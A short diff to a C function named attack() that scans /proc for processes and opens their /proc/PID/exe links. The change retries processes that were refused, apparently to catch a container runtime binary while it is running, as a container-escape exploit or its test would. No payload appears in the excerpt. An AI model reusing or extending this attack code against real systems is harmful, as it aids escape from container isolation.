@@ -95,14 +95,19 @@ static int attack(const char *ctl) {
         while (d && (e = readdir(d))) {
             char *end;
             long pid = strtol(e->d_name, &end, 10);
-            if (*end || pid <= 0 || pid >= MAX_PID || pid == me || seen[pid]) continue;
+            /* seen: 1 = done with this pid, 2 = refused so far (retried every scan: a
+               process may become dumpable later while still running the runtime binary) */
+            if (*end || pid <= 0 || pid >= MAX_PID || pid == me || seen[pid] == 1) continue;
             snprintf(path, sizeof path, "/proc/%ld/exe", pid);
             int fd = open(path, O_PATH | O_CLOEXEC);
             if (fd < 0) {
                 if (errno == EACCES || errno == EPERM) {
-                    /* a process we may not look at: count it once per pid and errno */
-                    if (seen[pid] == 0) { eacces++; logline("DENIED pid=%ld errno=%d", pid, errno); }
-                    seen[pid] = 2;  /* do not retry: the runtime keeps it non-dumpable */
+                    /* a process we may not look at (non-dumpable): logged once per pid */
+                    if (seen[pid] == 0) {
+                        eacces++;
+                        logline("DENIED pid=%ld errno=%d", pid, errno);
+                    }
+                    seen[pid] = 2;
                 } else if (errno == ENOENT) {
                     seen[pid] = 1;  /* exited, a zombie, or a kernel thread */
                 }
